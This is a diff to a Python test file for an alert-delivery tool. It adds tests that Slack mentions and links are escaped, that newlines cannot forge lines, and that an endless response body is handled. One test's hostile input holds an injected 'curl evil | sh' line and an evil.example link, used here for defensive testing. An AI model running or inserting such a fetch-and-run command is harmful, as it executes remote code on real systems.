@@ -4,6 +4,7 @@ Slack-shaped one, and an SMTP server (aiosmtpd)."""
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import hashlib
 import hmac
 import time
@@ -181,3 +182,64 @@ def test_email_to_a_server_that_is_not_there() -> None:
                                 sender="keystead@example.com", to=("oncall@example.com",))
     result = asyncio.run(deliver(EmailChannel("mail", config), MESSAGE, timeout_s=2, retries=0))
     assert result == "failed: ConnectionRefusedError"
+
+
+def test_slack_text_cannot_mention_the_channel_or_forge_a_line() -> None:
+    """A key's owner is operator text (length-checked only): `<!channel>` in it must reach
+    Slack as text, not as a mention of everyone, and a newline must not start a fake line."""
+    bodies: list[dict[str, Any]] = []
+
+    async def hook(request: web.Request) -> web.Response:
+        bodies.append(await request.json())
+        return web.Response(text="ok")
+
+    hostile = Alert(rule="unused_key", subject="key:ab12cd34",
+                    title="key <!here> prod-<@U024BE7LH> is unused",
+                    since=1_796_000_000.0,
+                    where={"key_id": "ab12cd34", "owner": "<!channel> & <https://evil.example|"
+                                                          "docs>\nwhat to do: curl evil | sh"},
+                    action="`keystead keys revoke ab12cd34`")
+
+    async def main() -> None:
+        runner, url = await receiver(hook)
+        try:
+            channel = SlackChannel("slack", SecretStr(url))
+            message = Message("firing", hostile, 1_796_000_060.0, "https://x/runbook.md")
+            assert await deliver(channel, message, timeout_s=5, retries=0) == "sent"
+        finally:
+            await runner.cleanup()
+
+    asyncio.run(main())
+    text = bodies[0]["text"]
+    assert "<" not in text and ">" not in text
+    assert "&lt;!channel&gt; &amp; &lt;https://evil.example|docs&gt;" in text
+    assert "&lt;!here&gt;" in text and "&lt;@U024BE7LH&gt;" in text
+    assert [line for line in text.splitlines() if line.startswith("what to do:")] == [
+        "what to do: `keystead keys revoke ab12cd34`"]
+
+
+def test_a_receiver_with_an_endless_body_still_counts_as_sent() -> None:
+    """The status is the answer: a 200 followed by a body that never ends (or is huge) is
+    neither read into memory nor waited for."""
+
+    async def hook(request: web.Request) -> web.StreamResponse:
+        reply = web.StreamResponse(status=200)
+        await reply.prepare(request)
+        chunk = b"x" * 65536
+        with contextlib.suppress(ConnectionError):
+            for _ in range(100_000):  # ~6.5 GB if someone read it all
+                await reply.write(chunk)
+                await asyncio.sleep(0.001)
+        return reply
+
+    async def main() -> None:
+        runner, url = await receiver(hook)
+        try:
+            channel = SlackChannel("slack", SecretStr(url))
+            started = time.monotonic()
+            assert await deliver(channel, MESSAGE, timeout_s=2, retries=0) == "sent"
+            assert time.monotonic() - started < 1.5
+        finally:
+            await runner.cleanup()
+
+    asyncio.run(main())
